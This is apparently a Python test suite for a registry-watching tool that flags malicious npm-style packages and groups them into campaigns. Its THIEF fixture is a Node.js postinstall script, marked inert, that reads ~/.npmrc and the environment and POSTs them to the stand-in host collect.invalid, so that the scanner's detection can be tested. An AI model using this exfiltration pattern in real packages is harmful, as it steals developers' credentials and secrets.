"""watch.py - the registry followed: new versions, late documents, feeds that repeat, go back or fail, and what a kill leaves behind."""
import json
import os
import signal
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "tools"))

from postgres import Cluster, programs
from tap import QANAT, Run, done, ok, put, scratch
import feed_simulator as sim

# Inert: the host does not exist, and the first line ends the script.
THIEF = ("if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);\n"
         "const fs = require('fs'), os = require('os'), https = require('https');\n"
         "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
         "const r = https.request({ host: 'collect.invalid', path: '/x', method: 'POST' });\n"
         "r.write(t + JSON.stringify(process.env)); r.end();\n")
HOOK = {"scripts": {"postinstall": "node setup.js"}}
PATIENCE = 4 if "asan" in os.path.basename(os.path.dirname(QANAT)) else 1


class Watched:
    """A registry, and what is remembered of it in a directory."""

    def __init__(self, d, **kw):
        self.registry = sim.Registry(**kw)
        self.server = self.registry.serve()
        self.state = os.path.join(d, "state")
        self.feed = self.registry.base + "/_changes"

    def args(self, *more, feed=True):
        return ["watch", *(["--feed", self.feed] if feed else []), "--registry", self.registry.base, "--state", self.state,
                "--no-intel", "--poll", "50", *more]

    def once(self, *more, feed=True, **kw):
        return Run(*self.args("--once", *more, feed=feed), **kw)

    def start(self, *more):
        return subprocess.Popen([QANAT, *self.args(*more)], stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    def ask(self, sql):
        with sqlite3.connect(os.path.join(self.state, "watch.db"), timeout=30) as db:
            return db.execute(sql).fetchall()

    def seen(self):
        return {f"{n}@{v}": verdict for n, v, verdict in self.ask("SELECT name, version, verdict FROM version")}

    def status(self):
        return Run("watch", "status", "--state", self.state, "--format", "json").json

    def wait(self, until, seconds=30):
        end = time.time() + seconds * PATIENCE
        while time.time() < end:
            try:
                if until():
                    return True
            except sqlite3.OperationalError:
                pass
            time.sleep(0.05)
        return False


def stop(p):
    p.send_signal(signal.SIGTERM)
    out, err = p.communicate(timeout=60 * PATIENCE)
    return p.returncode, out.decode(), err.decode()


def wrong_use(d):
    r = Run("watch", "--state", d)
    ok(r.code == 2 and b"--feed URL or --input FILE" in r.err, "without a feed there is nothing to follow", r)
    r = Run("watch", "follow", "--state", d)
    ok(r.code == 2 and b"follow" in r.err, "a part that there is not", r)
    r = Run("watch", "--feed", "http://127.0.0.1:1/_changes", "--since", "a b", "--state", d)
    ok(r.code == 2 and b"no sequence" in r.err, "a sequence that is none", r)
    r = Run("watch", "status", "--state", os.path.join(d, "empty"))
    ok(r.code != 0 and b"nothing was watched yet" in r.err, "the status of nothing", r)
    r = Run("watch", "--once", "--input", os.path.join(d, "missing"), "--state", os.path.join(d, "s"))
    ok(r.code != 0 and b"missing" in r.err, "an input that is not there", r)


def ordinary(d):
    w = Watched(d)
    w.registry.publish("plain", "1.0.0", {"index.js": "module.exports = 1;\n"})
    w.registry.publish("@scope/plain", "1.0.0", {"index.js": "module.exports = 2;\n"})
    r = w.once("--since", "0")
    ok(r.code == 0 and w.seen() == {"plain@1.0.0": "clean", "@scope/plain@1.0.0": "clean"}, "what the feed has is looked at", r)
    w.registry.publish("plain", "1.0.1", {"index.js": "module.exports = 1;\n", "setup.js": THIEF}, manifest=HOOK)
    r = w.once()
    ok(w.seen().get("plain@1.0.1") == "malicious", "a stolen package is found", r)
    ok(r.out.startswith(b"malicious") and b"plain@1.0.1" in r.out, "and told in one line", r)
    r = w.once()
    ok(r.out == b"" and len(w.seen()) == 3 and w.ask("SELECT count(*) FROM judgement") == [(3,)], "nothing is judged twice", r)
    ok(w.ask("SELECT count(*) FROM finding f JOIN version v ON v.id = f.version WHERE v.verdict = 'malicious'")[0][0] > 0 and
       w.ask("SELECT count(*) FROM events") == [(3,)], "its findings and events are on record")
    st = w.status()
    ok(st["seq"] == "3" and st["versions"] == 3 and st["malicious"] == 1 and st["queued"] == 0, "the status tells so", st)
    r = Run("watch", "status", "--state", w.state)
    ok(b"1 malicious" in r.out and b"place" in r.out, "also for people", r)


def begin_at_the_end(d):
    w = Watched(d)
    w.registry.publish("old", "1.0.0", {"index.js": "1;\n"})
    r = w.once()
    ok(r.code == 0 and w.seen() == {} and w.status()["seq"] == "1", "a feed is followed from its end", r)
    w.registry.publish("new", "1.0.0", {"index.js": "1;\n"})
    r = w.once()
    ok(w.seen() == {"new@1.0.0": "clean"}, "and then nothing is missed", r)


def other_bytes(d):
    w = Watched(d)
    w.registry.publish("moved", "1.0.0", {"index.js": "1;\n"})
    w.once("--since", "0")
    w.registry.publish("moved", "1.0.0", {"index.js": "1;\n", "setup.js": THIEF}, manifest=HOOK)
    w.once()
    ok(w.seen() == {"moved@1.0.0": "malicious"}, "a version with other bytes is looked at again", w.seen())
    ok(w.ask("SELECT verdict FROM judgement ORDER BY id") == [("clean",), ("malicious",)], "its first verdict is not forgotten")


def old_versions(d):
    w = Watched(d)
    year = int(time.time() * 1000) - 365 * 24 * 3600 * 1000
    for i in range(5):
        w.registry.publish("long", f"1.{i}.0", {"index.js": f"{i};\n"}, when=year + i)
    w.registry.publish("long", "0.9.9", {"index.js": "1;\n"})
    r = w.once("--since", "0")
    ok(w.seen() == {"long@0.9.9": "clean"}, "of what was there before, only the last one published is news", r)


def late_documents(d):
    w = Watched(d, lag_ms=1500)
    p = w.start("--since", "0")
    w.registry.publish("late", "1.0.0", {"index.js": "1;\n"})
    found = w.wait(lambda: w.seen().get("late@1.0.0") == "clean")
    code, _, err = stop(p)
    ok(found and code == 0, "a document that shows the version later than the feed is asked for again", err)


def strange_feeds(d):
    w = Watched(d)
    for i in range(3):
        w.registry.publish(f"p{i}", "1.0.0", {"index.js": f"{i};\n"})
    w.registry.touch("p1")
    w.registry.touch("p1")
    w.registry.delete("p2")
    r = w.once("--since", "0")
    ok(sorted(w.seen()) == ["p0@1.0.0", "p1@1.0.0"] and r.code == 0, "what was deleted is not there, what is repeated is there once", r)
    w.ask("UPDATE setting SET value = '500' WHERE key = 'feed.seq'")
    w.registry.publish("after", "1.0.0", {"index.js": "1;\n"})
    r = w.once()
    ok(b"began anew" in r.err, "a feed that ends before our place is noticed", r)
    r = w.once()
    ok("after@1.0.0" in w.seen(), "and nothing of it is missed", r)
    ok(w.ask("SELECT count(*) FROM judgement") == [(3,)], "nor judged twice")


def failing_registry(d):
    w = Watched(d, flaky=0.4)
    for i in range(20):
        w.registry.publish(f"f{i}", "1.0.0", {"index.js": f"{i};\n"})
    p = w.start("--since", "0")
    found = w.wait(lambda: sorted(w.seen().values()) == ["clean"] * 20, 90)
    code, _, err = stop(p)
    ok(found and code == 0, "a registry that fails four times in ten loses nothing", f"{w.seen()}\n{err}")


def bad_pages(d):
    class Lying(sim.Registry):
        page = b"{}"

        def answer(self, path):
            if "_changes" in path:
                self.requests["feed"] += 1
                return 200, "application/json", self.page
            return super().answer(path)

    w = Watched(d)
    w.server.shutdown()
    w.registry = Lying()
    w.server = w.registry.serve()
    w.feed = w.registry.base + "/_changes"
    for page in (b"{}", b"[" * 100000, b'{"results":[{"seq":1,"id":"a"}],"last_seq":{}}', b"\xff\xfe", b'{"results":[],"last_seq":"' + b"9" * 9999 + b'"}'):
        w.registry.page = page
        p = w.start("--since", "0")
        asked = w.wait(lambda: w.registry.requests["feed"] > 0)
        time.sleep(0.3)
        code, _, err = stop(p)
        ok(asked and code == 0 and "cannot be followed" in err, f"a page that is none is told and tried again: {page[:30]!r}", err)
        w.registry.requests["feed"] = 0
    w.registry.page = b'{"results":[{"seq":1,"id":"../../x"},{"seq":2,"id":"_design/a"},{"seq":3,"id":".hidden"}],"last_seq":3}'
    p = w.start("--since", "0")
    moved = w.wait(lambda: w.status()["seq"] == "3")
    stop(p)
    ok(moved and w.registry.requests["document"] == 0, "names that are none are never asked for", w.registry.requests)


def lists(d):
    w = Watched(d)
    for n in ("listed", "@s/listed", "other"):
        w.registry.publish(n, "1.0.0", {"index.js": "1;\n"})
    names = put(os.path.join(d, "names"), "# mine\nlisted\n@s/listed\n../no\n")
    r = w.once("--input", names, feed=False)
    ok(r.code == 0 and sorted(w.seen()) == ["@s/listed@1.0.0", "listed@1.0.0"] and b"1 lines" in r.err, "a list of names", r)
    feed = put(os.path.join(d, "feed"), "".join(json.dumps({"seq": s, "id": n}) + "\n" for s, n, _ in w.registry.feed))
    r = w.once("--input", feed, feed=False)
    ok(len(w.seen()) == 3, "a recorded feed", r)
    r = w.once("--input", put(os.path.join(d, "bad"), "ok\n{broken\n"), feed=False)
    ok(r.code != 0 and b"line 2" in r.err, "one that is broken is named with its line", r)
    r = w.once("--input", put(os.path.join(d, "gone"), "not-there\n"), feed=False)
    ok(r.code == 0 and w.status()["waiting"] == 1, "what the registry does not have waits to be tried again", r)


def killed(d):
    """What was published while the watcher was killed again and again is there once, with one verdict."""
    w = Watched(d)
    n = 0
    for round_ in range(100):
        p = w.start("--since", "0")
        for _ in range(4):
            w.registry.publish(f"k{n % 70}", f"1.0.{n // 70}", {"index.js": f"module.exports = {n};\n"})
            n += 1
        time.sleep(0.05 + (round_ * 37 % 40) / 100 * PATIENCE)
        p.kill()
        p.communicate()
    w.once("--since", "0")
    w.wait(lambda: w.once().code == 0 and w.status()["queued"] == 0, 60)
    seen = w.seen()
    wanted = {f"k{i % 70}@1.0.{i // 70}" for i in range(n)}
    ok(set(seen) == wanted and set(seen.values()) == {"clean"}, f"100 kills: {n} versions published, each there", wanted ^ set(seen))
    ok(w.ask("SELECT version FROM judgement GROUP BY version HAVING count(*) > 1") == [], "none of them judged twice")
    ok(w.ask("PRAGMA quick_check") == [("ok",)], "the store is sound")


def locked_store(d):
    w = Watched(d)
    w.registry.publish("a", "1.0.0", {"index.js": "1;\n"})
    w.once("--since", "0")
    db = sqlite3.connect(os.path.join(w.state, "watch.db"), isolation_level=None, timeout=30)
    db.execute("BEGIN IMMEDIATE")
    w.registry.publish("b", "1.0.0", {"index.js": "1;\n"})
    p = w.start()
    time.sleep(2)
    ok(p.poll() is None, "a store that somebody holds is waited for")
    db.execute("COMMIT")
    found = w.wait(lambda: "b@1.0.0" in w.seen())
    code, _, err = stop(p)
    ok(found and code == 0, "and then written to", err)


def counters(d):
    w = Watched(d)
    for i in range(5):
        w.registry.publish(f"m{i}", "1.0.0", {"index.js": "1;\n"})
    p = w.start("--since", "0", "--metrics", "127.0.0.1:0")
    line = p.stderr.readline().decode()
    where = line.strip().split()[-1]
    w.wait(lambda: len(w.seen()) == 5)
    silent = [socket.create_connection(urllib.parse.urlsplit(where).netloc.split(":")) for _ in range(3)]
    with urllib.request.urlopen(where, timeout=30) as r:
        text = r.read().decode()
    ok("qanat_watch_versions_total 5\n" in text and 'qanat_watch_verdicts_total{verdict="clean"} 5\n' in text and
       'qanat_watch_latency_seconds_count{span="seen_verdict"} 5\n' in text, "counters for Prometheus", text)
    ok(text.count("# TYPE qanat_watch_latency_seconds ") == 1 and
       'qanat_watch_latency_seconds_bucket{span="published_verdict",le="+Inf"} 5\n' in text, "and histograms", text)
    for s in silent:
        s.close()
    p.send_signal(signal.SIGTERM)
    p.communicate(timeout=60)
    r = w.once("--metrics", "nowhere")
    ok(r.code != 0 and b"--metrics" in r.err, "an address that is none", r)


def worm(d):
    """The same thing is put into packages of several owners."""
    w = Watched(d)
    hour = int(time.time() * 1000) - 3600 * 1000
    for i in range(10):
        w.registry.publish(f"@s{i % 4}/lib{i}", "1.0.0", {"index.js": f"module.exports = {i};\n" * (i + 1)}, user=f"dev{i % 5}", when=hour)
    w.once("--since", "0")
    for i in range(10):
        w.registry.publish(f"@s{i % 4}/lib{i}", "1.0.1", {"index.js": f"module.exports = {i};\n" * (i + 1), "setup.js": THIEF}, manifest=HOOK,
                           user=f"dev{i % 5}")
    r = w.once()
    lines = [line for line in r.out.decode().splitlines() if " campaign " in line]
    ok(lines and ", 5 packages, new" in lines[0], "a campaign is told when five packages have it", r)
    doc = Run("campaign", "list", "--state", w.state, "--format", "json").json
    ok(len(doc["campaigns"]) == 1 and doc["campaigns"][0]["packages"] == 10, "all ten belong to it", doc)
    before = w.ask("SELECT name, version, verdict, score, reason FROM version ORDER BY name, version")
    r = Run("judge", "--all", "--state", w.state)
    ok(r.code == 0 and w.ask("SELECT name, version, verdict, score, reason FROM version ORDER BY name, version") == before,
       "judged again, what it does to them stays", r)


# Inert: what a well-known package does at its installation, and others copy.
INSTALLER = ("const fs = require('fs');\nconst path = require('path');\n"
             "const p = path.join(__dirname, 'bin', process.platform);\n"
             "if (fs.existsSync(p)) fs.copyFileSync(p, path.join(__dirname, 'bin', 'tool'));\n")
LIBRARY = "".join(f"function f{i}(a, b) {{ const x = a * {i} + b; return x > {i * 7} ? [x, 'k{i}'].map(String).join('{i}') : b - {i}; }}\n"
                  for i in range(60))


def copied(d, store=None):
    """Packages that are made to be given up contain what innocents have: nothing happens to these; and a campaign that a person ends."""
    w = Watched(d)
    more = ["--store", store] if store else []
    where = more or ["--state", w.state]
    long_ago = int(time.time() * 1000) - 200 * 3600 * 1000
    hook = {"scripts": {"postinstall": "node install.js"}}

    def innocents(n, when=None):
        w.registry.publish("esbuild", f"0.25.{n}", {"index.js": f"exports.n = {n};\n", "install.js": INSTALLER}, manifest=hook,
                           user="maker", when=when)
        w.registry.publish("midlib-zq", f"1.0.{n}", {"index.js": LIBRARY + f"// {n}\n"}, user="good", when=when)
        return w.once("--since", "0", *more)

    def verdicts(*prefix):
        rows = [json.loads(line) for line in Run("store", "export", *where).out.decode().splitlines()]
        return {f"{v['name']}@{v['version']}": (v["verdict"], v["reason"]) for v in rows
                if v["table"] == "version" and v["name"].startswith(prefix)}

    innocents(0, long_ago)
    innocents(1)
    for i in range(16):
        files = {"setup.js": THIEF + f"// {i}\n", **({"install.js": INSTALLER} if i % 2 else {"index.js": LIBRARY})}
        w.registry.publish(f"zqx-bait{i}", "1.0.0", files, user=f"mule{i}",
                           manifest={"scripts": {"postinstall": "node setup.js", **({"preinstall": "node install.js"} if i % 2 else {})}})
    r = w.once(*more)
    ok(b" campaign " in r.out, "the bait is a campaign", r)
    innocents(2)
    r = innocents(3)
    ok(b"malicious  " not in r.out and b"suspicious " not in r.out, "an update of an innocent raises nothing", r)
    ok({v for v, _ in verdicts("esbuild", "midlib").values()} == {"clean"}, "innocents stay what they are", verdicts("esbuild", "midlib"))
    doc = Run("campaign", "list", *where, "--format", "json").json
    i = doc["campaigns"][0]["id"]
    members = Run("campaign", "show", i, *where, "--format", "json").json["members"]
    ok(len(doc["campaigns"]) == 1 and len(members) == 16 and all(m["name"].startswith("zqx-") for m in members), "and are in no campaign", doc)
    ok(all("one attack" in reason for _, reason in verdicts("zqx").values()), "the bait is judged as one attack", verdicts("zqx"))
    r = Run("campaign", "dismiss", i, "--reason", "an exercise", "--by", "ada", *where)
    ok(r.code == 0, "a person ends it", r)
    own = verdicts("zqx")
    ok(all(v == "malicious" and "one attack" not in reason for v, reason in own.values()), "they are what they are by themselves", own)
    w.registry.publish("zqx-bait99", "1.0.0", {"setup.js": THIEF, "index.js": LIBRARY}, user="mule99", manifest=HOOK)
    r = w.once(*more)
    ok(b" campaign " not in r.out and len(Run("campaign", "list", *where, "--format", "json").json["campaigns"]) == 1 and
       "one attack" not in verdicts("zqx-bait99")["zqx-bait99@1.0.0"][1], "it is not founded again", r)
    said = Run("campaign", "show", i, *where, "--format", "json").json["dismissals"]
    ok(len(said) == 1 and said[0]["who"] == "ada" and said[0]["reason"] == "an exercise", "who ended it and why", said)


def copied_postgres(d):
    if programs():
        with Cluster() as pg:
            copied(d, pg.database("copied"))


RULE = """rules:
- id: of-the-house
  title: What nobody here may use
  severity: high
  verdict: malicious
  score: 95
  when: {event: install.hook}
  explain: It has a hook.
"""


def new_rules(d):
    w = Watched(d)
    w.registry.publish("hooked", "1.0.0", {"index.js": "1;\n", "hook.js": "console.log('hello');\n"}, manifest={"scripts": {"postinstall": "node hook.js"}})
    w.registry.publish("plain", "1.0.0", {"index.js": "1;\n"})
    rules = os.path.join(d, "rules")
    put(os.path.join(rules, "none.yaml"), "rules: []\n")
    p = w.start("--since", "0", "--rules", rules)
    w.wait(lambda: len(w.seen()) == 2)
    first = dict(w.seen())
    put(os.path.join(rules, "none.yaml"), "rules: [\n")
    time.sleep(6)
    ok(p.poll() is None, "rules that cannot be read end nothing")
    put(os.path.join(rules, "none.yaml"), RULE)
    found = w.wait(lambda: w.seen()["hooked@1.0.0"] == "malicious", 40)
    w.registry.publish("later", "1.0.0", {"index.js": "1;\n", "hook.js": "console.log('hello');\n"}, manifest={"scripts": {"postinstall": "node hook.js"}})
    later = w.wait(lambda: w.seen().get("later@1.0.0") == "malicious")
    code, out, err = stop(p)
    ok(first["hooked@1.0.0"] == "clean" and found and w.seen()["plain@1.0.0"] == "clean", "a new rule counts for what was seen", err)
    ok(later and code == 0 and "(was clean)" in out, "and for what comes, without a restart", out + err)
    ok("cannot be read" in err, "the unreadable one was told", err)


def restarted(d):
    """What changed while nobody watched reaches what was seen, too."""
    w = Watched(d)
    w.registry.publish("hooked", "1.0.0", {"index.js": "1;\n", "hook.js": "console.log('hello');\n"}, manifest={"scripts": {"postinstall": "node hook.js"}})
    w.once("--since", "0")
    rules = put(os.path.join(d, "rules.yaml"), RULE)
    r = w.once("--rules", rules)
    ok(w.seen() == {"hooked@1.0.0": "malicious"} and b"(was clean)" in r.out, "rules that came while nobody watched count", r)
    r = w.once("--rules", rules)
    ok(b"judged again" not in r.err, "once", r)


def nobody_reads(d):
    w = Watched(d)
    w.registry.publish("stolen", "1.0.0", {"index.js": "1;\n", "setup.js": THIEF}, manifest=HOOK)
    with open("/dev/full", "wb") as full:
        p = subprocess.run([QANAT, *w.args("--once", "--since", "0")], stdout=full, stderr=subprocess.PIPE, timeout=60 * PATIENCE, check=False)
    ok(p.returncode == 0 and w.seen() == {"stolen@1.0.0": "malicious"}, "what cannot be printed is on record all the same", p.stderr)
    ok(b"cannot be printed" in p.stderr, "and that is told", p.stderr)


def other_feed(d):
    w = Watched(d)
    for i in range(3):
        w.registry.publish(f"a{i}", "1.0.0", {"index.js": "1;\n"})
    w.once("--since", "0")
    other = sim.Registry(flaky=1.0)
    other.serve()
    w.feed, w.registry = other.base + "/_changes", other
    for i in range(2):
        other.publish(f"b{i}", "1.0.0", {"index.js": "1;\n"})
    p = w.start("--since", "0")
    w.wait(lambda: other.requests["failed"] > 0)
    stop(p)
    other.flaky = 0
    w.once("--since", "0")
    ok({"b0@1.0.0", "b1@1.0.0"} <= set(w.seen()), "another feed has a place of its own, though it could not be read at first", w.seen())


class Tardy(sim.Registry):
    """Tarballs come later than everything else."""

    broken = True

    def answer(self, path):
        return (503, "text/plain", b"") if self.broken and path.endswith(".tgz") else super().answer(path)


def bytes_come_later(d):
    w = Watched(d)
    w.server.shutdown()
    w.registry = Tardy()
    w.server = w.registry.serve()
    w.feed = w.registry.base + "/_changes"
    hour = int(time.time() * 1000) - 3600 * 1000
    w.registry.broken = False
    for i in range(8):
        w.registry.publish(f"@s{i % 4}/lib{i}", "1.0.0", {"index.js": f"module.exports = {i};\n" * (i + 1)}, user=f"dev{i % 5}", when=hour)
    w.once("--since", "0")
    w.registry.broken = True
    for i in range(8):
        w.registry.publish(f"@s{i % 4}/lib{i}", "1.0.1", {"index.js": f"module.exports = {i};\n" * (i + 1), "setup.js": THIEF}, manifest=HOOK,
                           user=f"dev{i % 5}")
    p = w.start()
    w.wait(lambda: len(w.seen()) == 16)
    ok(all(v == "unknown" for k, v in w.seen().items() if k.endswith("1.0.1")), "what cannot be fetched is unknown", w.seen())
    w.registry.publish("@s0/lib0", "1.0.2", {"index.js": "module.exports = 0;\n"}, user="dev0")
    w.registry.broken = False
    found = w.wait(lambda: all(v == "malicious" for k, v in w.seen().items() if k.endswith("1.0.1")), 60)
    code, out, err = stop(p)
    ok(found and code == 0, "and looked at when it comes, also when something newer was published meanwhile", w.seen())
    ok(" campaign " in out, "a campaign is found then, too", out + err)


def known_later(d):
    w = Watched(d)
    w.registry.publish("listed", "1.0.0", {"index.js": "1;\n"})
    p = subprocess.Popen([QANAT, *[a for a in w.args("--since", "0") if a != "--no-intel"]], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    w.wait(lambda: w.seen() == {"listed@1.0.0": "clean"})
    r = Run("intel", "block", "listed", "--reason", "ours", "--owner", "me@example.invalid", "--state", w.state)
    found = w.wait(lambda: w.seen() == {"listed@1.0.0": "malicious"}, 60)
    code, _, err = stop(p)
    ok(r.code == 0 and found and code == 0, "what becomes known while it watches counts", f"{r}{err}")


def notices(d):
    w = Watched(d)
    told = os.path.join(d, "told")
    conf = put(os.path.join(d, "notify.yaml"), f"""channels:
- name: page
  kind: command
  argv: [/bin/sh, -c, "cat >>{told}; echo >>{told}"]
routes:
- to: page
wait: 0s
""")
    w.registry.publish("stolen", "1.0.0", {"index.js": "1;\n", "setup.js": THIEF}, manifest=HOOK)
    p = w.start("--since", "0", "--notify", conf)
    found = w.wait(lambda: os.path.exists(told) and "stolen" in open(told, encoding="utf-8").read())
    code, _, err = stop(p)
    ok(found and code == 0, "who is to know is told", err)
    r = w.once("--notify", os.path.join(d, "missing"))
    ok(r.code != 0 and b"missing" in r.err, "a file of channels that is not there", r)


def told_again(d):
    """Rules come and go: who is to know is told what counts, not what is on record."""
    w = Watched(d)
    told = os.path.join(d, "told")
    conf = put(os.path.join(d, "notify.yaml"), f"""channels:
- name: page
  kind: command
  argv: [/bin/sh, -c, "cat >>{told}; echo >>{told}"]
routes:
- to: page
wait: 0s
""")
    for name in ("hooked", "sure"):
        w.registry.publish(name, "1.0.0", {"index.js": "1;\n", "hook.js": "console.log('hello');\n"}, manifest={"scripts": {"postinstall": "node hook.js"}})
    rules = os.path.join(d, "rules")
    put(os.path.join(rules, "none.yaml"), "rules: []\n")

    def notices():
        lines = open(told, encoding="utf-8").read().splitlines() if os.path.exists(told) else []
        return sorted((n["name"], n.get("before"), n["verdict"], [f["rule"] for f in n["findings"]])
                      for line in lines if line for n in json.loads(line)["notices"])

    p = w.start("--since", "0", "--rules", rules, "--notify", conf)
    w.wait(lambda: set(w.seen().values()) == {"clean"} and len(w.seen()) == 2)
    put(os.path.join(rules, "none.yaml"), RULE)
    w.wait(lambda: len(notices()) == 2, 40)
    first = notices()
    r = Run("review", "confirm", "sure@1.0.0", "--by", "jo", "--state", w.state)
    put(os.path.join(rules, "none.yaml"), "rules: []\n")
    w.wait(lambda: set(w.seen().values()) == {"clean"} and len(notices()) > 2, 40)
    code, out, err = stop(p)
    ok(first == [("hooked", "clean", "malicious", ["of-the-house"]), ("sure", "clean", "malicious", ["of-the-house"])],
       "what a back-scan found is told with its findings", str(first) + out + err)
    ok(r.code == 0 and code == 0 and [n for n in notices() if n not in first] == [("hooked", "malicious", "clean", [])],
       "what a person has confirmed is not told to be clean", str(notices()) + out + err)


def below(pid, name):
    """Processes of that name that a process, or one of its own, has started."""
    found = []
    for child in open(f"/proc/{pid}/task/{pid}/children").read().split():
        try:
            if open(f"/proc/{child}/comm").read().strip() == name:
                found.append(int(child))
            found += below(child, name)
        except OSError:
            pass
    return found


def reports(d):
    w = Watched(d)
    clone = os.path.join(d, "clone")
    git = ["git", "-C", clone, "-c", "user.name=t", "-c", "user.email=t@mail.invalid"]
    subprocess.run(["git", "init", "-q", "-b", "main", clone], check=True)
    put(os.path.join(clone, "osv/malicious/npm/README"), "records\n")
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "begin"], check=True)
    policy = put(os.path.join(d, "policy.yaml"), "reports: { automatic: true }\n")
    w.registry.publish("stolen", "1.0.0", {"index.js": "1;\n", "setup.js": THIEF}, manifest=HOOK)
    w.registry.publish("plain", "1.0.0", {"index.js": "1;\n"})
    where = ["--repository", clone, "--author", "Finder <finder@mail.invalid>", "--credit", "Finder <finder@mail.invalid>"]
    r = w.once("--since", "0", *where)
    ok(r.code == 0 and w.ask("SELECT count(*) FROM report") == [(0,)], "nothing is reported unless policy says so", r)
    p = w.start(*where, "--watch-policy", policy)
    found = w.wait(lambda: w.ask("SELECT name FROM report") == [("stolen",)])
    code, _, err = stop(p)
    files = subprocess.run([*git, "log", "--all", "--name-only", "--format="], capture_output=True, check=True).stdout.decode()
    ok(found and code == 0 and "npm/stolen/" in files and "plain" not in files, "what policy wants reported is on a branch", files + err)
    p = w.start(*where, "--watch-policy", policy)
    os.rename(f"{clone}/.git/config", f"{clone}/.git/kept")
    os.mkfifo(f"{clone}/.git/config")
    w.registry.publish("stolen", "1.0.1", {"index.js": "2;\n", "setup.js": THIEF}, manifest=HOOK)
    git = w.wait(lambda: below(p.pid, "git"))
    begun = time.time()
    at = below(p.pid, "git")
    code, _, err = stop(p)
    ok(git and code == 0 and "takes too long and is ended" in err and time.time() - begun < 30, "a repository that hangs holds up no end", err)
    time.sleep(0.5)
    ok(at and not any(os.path.exists(f"/proc/{x}") for x in at), "and leaves nothing behind", at)
    os.rename(f"{clone}/.git/kept", f"{clone}/.git/config")
    r = w.once(*where, "--watch-policy", policy)
    ok(r.code == 0 and w.ask("SELECT version FROM report ORDER BY version") == [("1.0.0",), ("1.0.1",)], "once: what was left is reported", r)
    w.registry.publish("stolen", "1.0.2", {"index.js": "3;\n", "setup.js": THIEF}, manifest=HOOK)
    w.once("--since", "0")
    del w.registry.packages["stolen"]["1.0.2"]
    r = w.once(*where, "--watch-policy", policy)
    ok(w.ask("SELECT version FROM report WHERE version = '1.0.2'") == [("1.0.2",)], "what is gone from the registry is reported, too", r)


def both_databases(d):
    """The same feed with SQLite and with PostgreSQL behind the store."""
    if not programs():
        ok(True, "# SKIP PostgreSQL is not installed")
        return
    w = Watched(d)
    for i in range(40):
        w.registry.publish(f"b{i % 20}", f"1.0.{i // 20}", {"index.js": f"module.exports = {i};\n", **({"setup.js": THIEF} if i % 13 == 5 else {})},
                           manifest=HOOK if i % 13 == 5 else {})

    def told(*where):
        r = Run("store", "export", "--state", w.state, *where)
        rows = [json.loads(line) for line in r.out.decode().splitlines()]
        return sorted(json.dumps({k: v for k, v in row.items() if k not in ("id", "seen", "judged", "time", "due")}, sort_keys=True)
                      for row in rows if row["table"] in ("version", "finding", "events", "judgement"))

    w.once("--since", "0")
    here = told()
    with Cluster() as pg:
        url = pg.database("watch")
        r = w.once("--since", "0", "--store", url)
        there = told("--store", url)
        ok(r.code == 0 and len(here) > 80 and here == there, "both stores say the same",
           "\n".join(sorted(set(here) ^ set(there))[:6]) + repr(r))
        r = w.once("--store", url)
        ok(r.code == 0 and told("--store", url) == there, "and nothing is done twice", r)


def main():
    for test in (wrong_use, ordinary, begin_at_the_end, other_bytes, old_versions, late_documents, strange_feeds, failing_registry,
                 bad_pages, lists, killed, locked_store, counters, worm, copied, copied_postgres, new_rules,
                 restarted, nobody_reads, other_feed, bytes_come_later, known_later,
                 notices, told_again, reports, both_databases):
        with scratch() as d:
            test(d)
    done()


main()
